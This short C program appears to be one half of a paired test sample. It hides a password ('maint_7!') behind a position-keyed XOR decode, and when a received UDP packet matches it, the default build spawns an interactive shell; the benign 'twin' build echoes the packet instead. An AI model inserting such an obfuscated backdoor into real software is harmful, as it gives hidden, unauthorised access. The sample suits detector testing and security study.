/* A function decodes the constant, with a key that depends on the place. Twin: it opens nothing. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Byte i is the character ^ (0x31 + 7 * i). */
static unsigned char coded[] = {0x5c, 0x59, 0x56, 0x28, 0x39, 0x0b, 0x6c, 0x43, 0x69};

static __attribute__((noinline)) void decode(char *to, const unsigned char *from, unsigned size) {
  unsigned char key = 0x31;
  for (unsigned i = 0; i < size; i++) {
    to[i] = (char)(from[i] ^ key);
    key = (unsigned char)(key + 7);
  }
}

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    char word[16];
    decode(word, coded, sizeof coded);
    if (strcmp(request, word) == 0) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, request, 16, 0);
#endif
    }
  }
  return 0;
}
